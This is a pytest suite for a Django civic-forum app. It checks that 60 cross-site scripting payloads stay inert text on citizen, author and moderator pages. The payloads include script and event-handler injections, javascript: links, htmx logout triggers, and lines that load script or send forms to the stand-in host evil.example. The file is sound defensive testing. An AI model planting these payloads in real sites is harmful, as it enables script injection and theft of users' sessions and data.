"""Hostile text in comments, names, ideas, reports and decisions stays text, for citizens and for moderators."""

from collections import Counter
from html.parser import HTMLParser

import pytest

from commons.core.markdown import to_html
from commons.people.models import User
from discussions.models import Idea
from mygov.moderation import deciding, reporting
from tests.cast import person

pytestmark = pytest.mark.django_db
PAYLOADS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "</script><script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\n>alert(1)</script\n>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<img src=x onerror=alert(1)>", "<img src=x:x onerror=alert`1`>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<img/src='x'/onerror='alert(1)'>", "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<math href=javascript:alert(1)>x</math>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>", "<form action=//evil.example><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java&#09;script:alert(1)\">x</a>", "<a href=&#106;avascript:alert(1)>x</a>", "<a href='data:text/html,x'>x</a>",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](&Tab;javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:msgbox(1))", "[x](//evil.example)", "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>", "![x](javascript:alert(1))", "![x](https://evil.example/x.png\"onerror=alert(1))",
    "<div hx-get=/accounts/logout/ hx-trigger=load>", "<div data-hx-post=/accounts/logout/ data-hx-trigger=load>",
    "<p hx-on:click=alert(1)>", "<b hx-vals='js:{x:alert(1)}'>", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='",
    "`onmouseover=alert(1)`", "\"><script>alert(1)</script>", "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "{{ 7|add:7 }}{% now 'Y' %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]  # fmt: skip
OF_MARKDOWN = {"p", "br", "strong", "em", "blockquote", "ul", "ol", "li", "code"}
SAFE = ("https://", "http://", "mailto:", "tel:", "/", "#", "?")


class Elements(HTMLParser):
    """Counts every element with its attributes' names, and keeps every address."""

    def __init__(self, text):
        super().__init__()
        self.counts, self.addresses = Counter(), []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.counts[tag, tuple(sorted(name for name, _value in attrs))] += 1
        self.addresses += [value for name, value in attrs if name in {"href", "src", "action", "formaction", "hx-get", "hx-post"}]

    handle_startendtag = handle_starttag


def new_elements(text, plain):
    """The elements the payload added to the same page with plain words."""
    added = Elements(text).counts - Elements(plain).counts
    return {key for key in added if key not in {(tag, ()) for tag in OF_MARKDOWN} | {("a", ("href", "rel"))}}


def test_there_are_sixty_of_them():
    assert len(set(PAYLOADS)) == 60


@pytest.fixture
def pages(client, say, bring, discussion, mod):
    """The pages on which the text of a stranger stands: those of citizens, of its author, and of moderators."""
    author, reporter = person("author"), person("reporter")
    comment, idea = say(author), bring(author)
    reporting.report(comment, reporter, "spam")
    reporting.report(idea, reporter, "spam")
    hidden = say(author)
    deciding.decide(reporting.report(hidden, reporter, "spam").case, mod, "hide", seen=0, reason="spam")
    urls = {
        reporter: [
            discussion.get_absolute_url(), comment.get_absolute_url(), idea.get_absolute_url(), author.get_absolute_url(),
            f"/moderation/comments/{hidden.pk - 1}/report/", f"/comments/{comment.pk}/reply/", "/forum/",
        ],
        author: [hidden.get_absolute_url(), "/notifications/", "/impact/mine/"],
        mod: ["/moderation/", *(f"/moderation/{thing.case.pk}/" for thing in (comment, idea, hidden))],
    }  # fmt: skip

    def rendered(words):
        from commons.activities.models import Contribution
        from commons.comments.models import Comment
        from mygov.moderation.models import Report

        Comment.objects.update(body=words, body_html=to_html(words), state_words=words)
        Idea.objects.update(title=words[:80], ask=words, detail=words, detail_html=to_html(words), state="open")
        Report.objects.update(words=words)
        Contribution.objects.update(excerpt=words)
        User.objects.filter(pk=author.pk).update(display_name=words[:60], about=words, public_fields=["about"])
        found = {}
        for who, addresses in urls.items():
            client.force_login(who)
            for url in addresses:
                response = client.get(url)
                assert response.status_code == 200, url
                assert "script-src 'self'" in response["Content-Security-Policy"]
                found[who.pk, url] = response.content.decode()
        return found

    return rendered


def test_no_payload_becomes_an_element_or_an_address(pages):
    plain = pages("plain words")
    for payload in PAYLOADS:
        for (who, url), text in pages(payload).items():
            assert new_elements(text, plain[who, url]) == set(), (payload, url)
            unsafe = [address for address in Elements(text).addresses if address and not address.startswith(SAFE)]
            assert unsafe == [], (payload, url)
            assert '="//' not in text, (payload, url)


def test_the_check_would_see_a_page_that_escapes_nothing():
    """Negative control: each payload, put into a page as it is, is seen by the same check."""
    seen = [p for p in PAYLOADS if new_elements(f"<p>{p}</p>", "<p>plain words</p>") or new_elements(
        f'<p title="{p}">', '<p title="x">'
    ) or new_elements(f"<p title='{p}'>", "<p title='x'>")]  # fmt: skip

    assert len(seen) >= 45
